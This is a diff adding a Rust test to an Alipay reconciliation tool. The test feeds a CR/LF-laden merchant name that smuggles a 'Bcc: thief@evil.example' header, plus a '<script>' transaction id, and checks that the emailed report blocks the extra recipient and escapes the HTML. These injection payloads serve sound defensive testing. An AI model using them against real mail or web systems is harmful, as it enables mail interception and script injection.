@@ -513,3 +513,30 @@ fn a_failed_run_sends_an_alert_with_the_error_and_the_next_step() {
     w.run(&["reconcile", "--date", DATE]).expect_code(2);
     assert_eq!(server.mails().len(), 1);
 }
+
+/// Through the real chain: a hostile id from a sales file and a merchant name with CR/LF.
+#[test]
+fn hostile_sales_ids_and_merchant_name_stay_inert_through_the_real_report() {
+    let server = SmtpServer::start(Mode::Plain);
+    let w = workspace(&smtp_email(server.port, "plain", ""));
+    let cfg = std::fs::read_to_string(w.file("alipay-recon.toml"))
+        .unwrap()
+        .replace("name = \"HK-Store\"", "name = \"HK\\r\\nBcc: thief@evil.example\"");
+    w.write("alipay-recon.toml", cfg);
+    let sales = w.write(
+        "sales.csv",
+        "record_type,merchant_trans_id,merchant_refund_id,amount,currency,status,created_at,store_id,terminal_id,acquirement_id\n\
+         PAYMENT,<script>alert(1)</script>,,10.00,HKD,SUCCESS,2020-01-01T10:00:00+08:00,,,\n",
+    );
+    w.run(&["import-sales", sales.to_str().unwrap()]).expect_code(0);
+    w.run(&["run", "--date", "2020-01-01"]).expect_code(1);
+    let mails = server.mails();
+    let daily = mails.iter().find(|m| !m.subject.contains("ALERT")).expect("the daily email");
+    assert!(daily.subject.starts_with("[alipay-recon] 2020-01-01 HK Bcc: thief@evil.example: "), "{}", daily.subject);
+    for m in &mails {
+        assert!(!m.header_names.iter().any(|h| h.eq_ignore_ascii_case("bcc")), "{:?}", m.header_names);
+        assert!(!m.rcpt_to.contains("evil.example"), "{}", m.rcpt_to);
+    }
+    let html = daily.part("text/html").text();
+    assert!(!html.contains("<script>") && html.contains("&lt;script&gt;"), "{html}");
+}
